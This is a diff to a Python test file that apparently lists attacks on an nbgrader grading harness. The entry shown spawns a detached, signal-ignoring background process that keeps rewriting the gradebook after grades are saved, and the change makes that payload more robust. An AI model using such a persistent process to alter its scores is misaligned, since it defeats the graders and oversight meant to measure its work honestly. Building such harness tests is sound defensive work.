@@ -184,19 +184,24 @@ ATTACKS: dict[str, Attack] = {
         "leaves a process behind that writes points once nbgrader has saved them",
         (
             _EDIT_GRADEBOOK,
-            "import os, signal, time\n"
+            "import contextlib, os, signal, time\n"
             "if os.fork() == 0:\n"
-            "    os.setsid()\n"
+            "    with contextlib.suppress(OSError):\n"
+            "        os.setsid()\n"
             "    for number in range(1, 32):\n"
             "        if number not in (signal.SIGKILL, signal.SIGSTOP):\n"
             "            signal.signal(number, signal.SIG_IGN)\n"
             "    if os.fork() == 0:\n"
             "        for beat in range(600):\n"
-            "            open('@OPEN/heartbeat', 'w').write(str(beat))\n"
-            "            edit()\n"
+            # In a folder of its own it is heard by nobody but the attack itself.
+            "            for path in ('@OPEN/heartbeat', 'heartbeat'):\n"
+            "                with contextlib.suppress(OSError):\n"
+            "                    open(path, 'w').write(str(beat))\n"
+            "            with contextlib.suppress(Exception):\n"
+            "                edit()\n"
             "            time.sleep(0.1)\n"
             "    os._exit(0)\n"
-            "while not os.path.exists('@OPEN/heartbeat'):\n"
+            "while not any(map(os.path.exists, ('@OPEN/heartbeat', 'heartbeat'))):\n"
             "    time.sleep(0.01)",
         ),
         own_user=True,
